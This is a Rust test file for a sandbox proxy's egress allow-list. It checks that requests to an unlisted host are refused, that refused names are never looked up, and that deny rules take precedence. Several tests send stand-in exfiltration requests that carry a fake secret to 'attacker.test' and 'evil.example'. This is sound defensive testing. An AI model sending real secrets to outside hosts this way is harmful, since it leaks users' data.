//! The egress allow-list, judged from the host side: an origin on 127.0.0.2, made reachable for
//! the private-address rules by `[net] allow`, stands in for an attacker's public host; the
//! scripted resolver maps `attacker.test` to it. Under the default `egress = "allowlist"` no
//! request reaches it (absolute form, `CONNECT`, by name or by address literal) unless
//! `allow_domains` names it, and a refused name is never looked up.

use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use vak_guard::proxy::{GuardDialer, Proxy, ProxyOptions, Scope};
use vak_guard::{Chain, Guard, GuardSettings, Rule};

use crate::support::{SERVER_IP, Scripted, addrs, origin};

const SECRET: &str = "k=sekrit-4f1c";

/// The private-address rules let 127.0.0.2 through; the allow-list is the default one plus
/// `allow_domains`.
fn settings(allow_domains: &[String]) -> GuardSettings {
    GuardSettings::default()
        .with_allow([format!("{SERVER_IP}/32")])
        .with_allow_domains(allow_domains.iter().cloned())
}

async fn proxy_with(settings: &GuardSettings, resolver: Arc<Scripted>) -> Proxy {
    let guard = Guard::new(settings).with_resolver(resolver);
    let dialer = GuardDialer::new(guard, Scope::PerRequest);
    Proxy::start(Arc::new(dialer), ProxyOptions::default())
        .await
        .unwrap()
}

async fn send(proxy: &Proxy, request: &str) -> String {
    let mut stream = TcpStream::connect(proxy.addr().unwrap()).await.unwrap();
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    String::from_utf8_lossy(&answer).into_owned()
}

fn get(url: &str) -> String {
    format!("GET {url} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
}

fn connect(authority: &str) -> String {
    format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n")
}

#[tokio::test]
async fn the_proxy_refuses_an_unlisted_host_by_name_and_by_address_and_names_the_line() {
    let (origin, heads) = origin(String::new()).await;
    let port = origin.port();
    // Answers for the two requests by name, should they ever be looked up.
    let resolver = Scripted::new([addrs(&[SERVER_IP]), addrs(&[SERVER_IP])]);
    let proxy = proxy_with(&settings(&[]), resolver.clone()).await;
    let by_name = send(
        &proxy,
        &get(&format!("http://attacker.test:{port}/?{SECRET}")),
    )
    .await;
    let tunnel = send(&proxy, &connect(&format!("attacker.test:{port}"))).await;
    let by_address = send(&proxy, &get(&format!("http://{origin}/?{SECRET}"))).await;
    let tunnel_address = send(&proxy, &connect(&origin.to_string())).await;
    for answer in [&by_name, &tunnel, &by_address, &tunnel_address] {
        assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
        assert!(
            answer.contains("is not on the egress allow-list"),
            "{answer}"
        );
    }
    assert!(
        by_name.contains(&format!(
            "  [net]\n  allow_domains = [\"attacker.test:{port}\"]"
        )),
        "{by_name}"
    );
    assert!(
        by_address.contains(&format!("allow_domains = [\"{origin}\"]")),
        "{by_address}"
    );
    assert!(heads.lock().unwrap().is_empty(), "the stand-in was reached");
    // A refused name is never looked up: the lookup itself would carry the secret out.
    assert!(resolver.calls().is_empty(), "{:?}", resolver.calls());
    assert_eq!(proxy.report().blocked.len(), 4);
}

#[tokio::test]
async fn a_listed_host_goes_through_and_only_on_its_port() {
    let (origin, heads) = origin(String::new()).await;
    let port = origin.port();
    let listed = [format!("attacker.test:{port}")];
    let resolver = Scripted::new([addrs(&[SERVER_IP])]);
    let proxy = proxy_with(&settings(&listed), resolver).await;
    let answer = send(
        &proxy,
        &get(&format!("http://attacker.test:{port}/?{SECRET}")),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert_eq!(heads.lock().unwrap().len(), 1);
    // The same name on the HTTP port is another entry.
    let other = send(&proxy, &get("http://attacker.test/")).await;
    assert!(other.starts_with("HTTP/1.1 403"), "{other}");
    assert!(
        other.contains(&format!(
            "allow_domains = [\"attacker.test:{port}\", \"attacker.test\"]"
        )),
        "{other}"
    );
}

#[tokio::test]
async fn an_address_literal_needs_its_exact_entry() {
    let (origin, heads) = origin(String::new()).await;
    let guard = Guard::new(&settings(&[origin.to_string()]));
    let mut chain = Chain::new();
    let url = guard
        .check_url(&format!("http://{origin}/"), &chain)
        .unwrap();
    assert!(guard.connect_url(&url, &mut chain).await.is_ok());
    // A wider `[net] allow` is not an egress entry: 127.0.0.2 on another port stays refused.
    let refusal = guard
        .connect(SERVER_IP, origin.port() + 1, &mut Chain::new())
        .await
        .unwrap_err();
    assert!(
        matches!(refusal.rule(), Rule::NotAllowed { .. }),
        "{refusal}"
    );
    drop(heads);
}

#[tokio::test]
async fn deny_domains_wins_over_allow_domains_and_over_open() {
    let (origin, heads) = origin(String::new()).await;
    let port = origin.port();
    let entry = format!("attacker.test:{port}");
    for open in [false, true] {
        let mut settings =
            settings(std::slice::from_ref(&entry)).with_deny_domains(["attacker.test"]);
        if open {
            settings = settings.open();
        }
        let proxy = proxy_with(&settings, Scripted::new([addrs(&[SERVER_IP])])).await;
        let answer = send(&proxy, &get(&format!("http://{entry}/?{SECRET}"))).await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
        assert!(
            answer.contains("`[net] deny_domains` lists `attacker.test`"),
            "{answer}"
        );
    }
    assert!(heads.lock().unwrap().is_empty());
}

#[tokio::test]
async fn open_egress_is_todays_behaviour() {
    let (origin, heads) = origin(String::new()).await;
    let settings = settings(&[]).open();
    let proxy = proxy_with(&settings, Scripted::new([addrs(&[SERVER_IP])])).await;
    let answer = send(
        &proxy,
        &get(&format!("http://attacker.test:{}/", origin.port())),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert_eq!(heads.lock().unwrap().len(), 1);
}

#[tokio::test]
async fn the_built_in_list_is_allowed_and_can_be_turned_off() {
    // Judged without dialling: check_egress is the verdict the proxy applies first.
    let on = Guard::new(&GuardSettings::default());
    for host in [
        "crates.io",
        "index.crates.io",
        "pypi.org",
        "registry.npmjs.org",
        "github.com",
    ] {
        assert!(on.check_egress(host, 443).is_ok(), "{host}");
    }
    assert!(on.check_egress("github.com", 22).is_err());
    assert!(on.check_egress("evil.example", 443).is_err());
    let off = Guard::new(&GuardSettings::default().with_default_domains(false));
    assert!(off.check_egress("crates.io", 443).is_err());
}

#[tokio::test]
async fn a_host_port_entry_lifts_the_bad_port_rule_for_that_host_only() {
    let guard = Guard::new(&GuardSettings::default().with_allow_domains(["git.test:22"]));
    let resolver_free = guard.connect("other.test", 22, &mut Chain::new()).await;
    let refusal = resolver_free.unwrap_err();
    assert!(
        matches!(refusal.rule(), Rule::BadPort { port: 22 }),
        "{refusal}"
    );
    let guard = guard.with_resolver(Scripted::new([addrs(&["192.0.2.1"])]));
    let listed = guard.connect("git.test", 22, &mut Chain::new()).await;
    let refusal = listed.unwrap_err();
    // Past the port and the allow-list: the private-address rules judge the address.
    assert!(
        matches!(refusal.rule(), Rule::SpecialAddress { .. }),
        "{refusal}"
    );
}

#[test]
fn docs_list_every_built_in_host() {
    let docs = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/sandbox.md");
    let docs = std::fs::read_to_string(docs).unwrap();
    let table: Vec<&str> = docs
        .lines()
        .filter(|line| line.starts_with("| ") && !line.starts_with("| ecosystem"))
        .filter_map(|line| line.split(" | ").nth(1))
        .flat_map(|hosts| hosts.trim_end_matches(" |").split(", "))
        .collect();
    for host in vak_guard::DEFAULT_DOMAINS {
        assert!(table.contains(host), "docs/sandbox.md does not list {host}");
    }
}
